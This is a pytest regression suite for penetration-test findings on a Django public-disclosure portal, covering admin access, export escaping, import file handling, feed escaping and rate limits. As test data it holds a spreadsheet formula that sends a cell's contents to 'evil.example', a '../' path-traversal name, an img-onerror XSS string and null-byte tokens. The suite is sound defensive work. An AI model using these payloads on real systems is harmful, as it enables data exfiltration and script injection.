"""Penetration-test findings about disclosure (issue 11): each test failed before its fix."""

import os
import tempfile
import uuid
import xml.etree.ElementTree as ET

import pytest
from django.core import mail
from django.test import override_settings
from django.urls import reverse

from catalog.models import CatalogEntry
from disclosure.admin import DisclosureItemResource
from disclosure.models import DisclosureItem, ItemKind, Subscription
from portal.models import Role
from tests.portal.helpers import form_data

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


# --- finding 1: the subscription admin ------------------------------------------------------


@pytest.fixture
def subscriptions(county):
    return [
        Subscription.objects.create(email="citizen-a@example.invalid", organization=county.west),
        Subscription.objects.create(email="citizen-b@example.invalid", organization=county.east),
    ]


def test_a_township_admin_sees_no_subscriber(client, county, subscriptions, make_user):
    town_admin = make_user("t_town_admin", county.east, Role.ORG_ADMIN)
    client.force_login(town_admin)
    assert client.get("/admin/disclosure/subscription/").status_code == 403
    for sub in subscriptions:
        response = client.get(f"/admin/disclosure/subscription/{sub.pk}/change/")
        assert response.status_code in (302, 403) and sub.email.encode() not in response.content
        assert client.post(f"/admin/disclosure/subscription/{sub.pk}/delete/", {"post": "yes"}).status_code in (
            302,
            403,
        )
    index = client.get("/admin/").content.decode()
    assert "/admin/disclosure/subscription/" not in index
    assert Subscription.objects.count() == 2


def test_the_county_admin_and_superusers_see_the_subscribers(client, county, subscriptions, admin_user):
    for user in (county.admin, admin_user):
        client.force_login(user)
        page = client.get("/admin/disclosure/subscription/").content.decode()
        assert all(sub.email in page for sub in subscriptions), user


# --- finding 2: the item export -------------------------------------------------------------


def test_item_export_keeps_a_formula_title_as_text(county, make_item):
    make_item(title=EVIL, keywords="@SUM(1)")
    data = DisclosureItemResource(user=county.clerk).export()
    assert "'" + EVIL in data["title"] and "'@SUM(1)" in data["keywords"]


# --- finding 3: import-export's temporary file ------------------------------------------------


def test_a_clerk_cannot_make_the_import_read_or_delete_a_file_by_name(client, county):
    name = f"secret-{uuid.uuid4().hex}.csv"
    path = os.path.join(tempfile.gettempdir(), name)
    with open(path, "w") as handle:
        handle.write("organization_code,title\n" + county.civil.code + ",偷来的\n")
    try:
        client.force_login(county.clerk)
        for candidate in (name, "../" + name, uuid.uuid4().hex):
            response = client.post(
                "/admin/disclosure/disclosureitem/process_import/",
                {
                    "import_file_name": candidate,
                    "original_file_name": "x.csv",
                    "format": "0",
                    "resource": "0",
                },
            )
            assert response.status_code in (400, 403), candidate
        assert os.path.exists(path)  # TempFolderStorage removed it after reading
        assert not DisclosureItem.objects.filter(title="偷来的").exists()
    finally:
        if os.path.exists(path):
            os.remove(path)


def test_import_needs_the_add_permission(client, county):
    client.force_login(county.reviewer)  # may view items, may not add them
    assert client.get("/admin/disclosure/disclosureitem/import/").status_code == 403
    assert (
        client.post(
            "/admin/disclosure/disclosureitem/process_import/", {"import_file_name": uuid.uuid4().hex, "format": "0"}
        ).status_code
        == 403
    )


# --- finding 8: feeds -----------------------------------------------------------------------


def test_feeds_carry_markup_typed_in_a_body_as_text(client, county, publish_item):
    publish_item(body="<p>&lt;img src=x onerror=alert(1)&gt; 低保标准</p>")
    for url in (reverse("disclosure:feed_rss"), reverse("disclosure:feed_atom")):
        root = ET.fromstring(client.get(url).content)
        texts = [el.text or "" for el in root.iter() if el.tag.split("}")[-1] in ("description", "summary")]
        item_texts = [t for t in texts if "低保标准" in t]
        assert item_texts, url
        for text in item_texts:  # what the reader renders as HTML
            assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text


# --- finding 9: the item admin checks links like the services ---------------------------------


def test_the_item_admin_refuses_another_organisations_local_entry_and_unpublished_policy(client, county, make_item):
    foreign_entry = CatalogEntry.objects.create(name="河西乡本地事项", parent=county.group, organization=county.west)
    foreign_draft = make_item(
        title="河西乡未发布的政策", organization=county.west, actor=county.west_clerk, kind=ItemKind.DOCUMENT
    )
    draft = make_item(title="我的解读", kind=ItemKind.INTERPRETATION)
    client.force_login(county.clerk)
    url = f"/admin/disclosure/disclosureitem/{draft.pk}/change/"
    data = form_data(client.get(url).content.decode())
    for change in (
        {"catalog_entries": [str(county.entry.pk), str(foreign_entry.pk)]},
        {"interprets": str(foreign_draft.pk)},
    ):
        response = client.post(url, {**data, **change})
        assert response.status_code == 200, change  # the form again, with the error
    draft.refresh_from_db()
    assert foreign_entry not in draft.catalog_entries.all() and not draft.interprets.exists()


# --- finding 12: subscribe rate limit -------------------------------------------------------


@override_settings(DISCLOSURE_SUBSCRIBE_LIMITS={"address": (100, 3600), "email": (2, 86400)})
def test_one_mailbox_gets_at_most_the_limit_of_confirmation_mails(client, county, deliver_outbox):
    """Four subscriptions (each to another office, so none is a repeat the outbox folds) for one mailbox."""
    url = reverse("disclosure:subscribe")
    offices = [county.east, county.west, county.civil, county.gov]
    statuses = [
        client.post(url, {"email": "victim@example.invalid", "organization": office.pk}).status_code
        for office in offices
    ]
    assert statuses == [302, 302, 429, 429]
    assert deliver_outbox() == ["sent", "sent"]
    assert len(mail.outbox) == 2


@override_settings(DISCLOSURE_SUBSCRIBE_LIMITS={"address": (3, 3600), "email": (100, 86400)})
def test_one_address_gets_at_most_the_limit_of_subscriptions(client, county):
    url = reverse("disclosure:subscribe")
    statuses = [
        client.post(url, {"email": f"p{n}@example.invalid", "organization": county.east.pk}).status_code
        for n in range(4)
    ]
    assert statuses[:3] == [302, 302, 302] and statuses[3] == 429
    response = client.post(url, {"email": "p9@example.invalid", "organization": county.east.pk})
    assert "操作过于频繁" in response.content.decode() and int(response["Retry-After"]) > 0


@pytest.mark.parametrize("token", ["abc%00", "%00", "x" * 5000])
def test_hostile_tokens_never_reach_a_server_error(client, county, token):
    for name in ("disclosure:subscription_confirm", "disclosure:unsubscribe"):
        url = reverse(name, args=["TOKEN"]).replace("TOKEN", token)
        assert client.get(url).status_code < 500
        assert client.post(url).status_code < 500
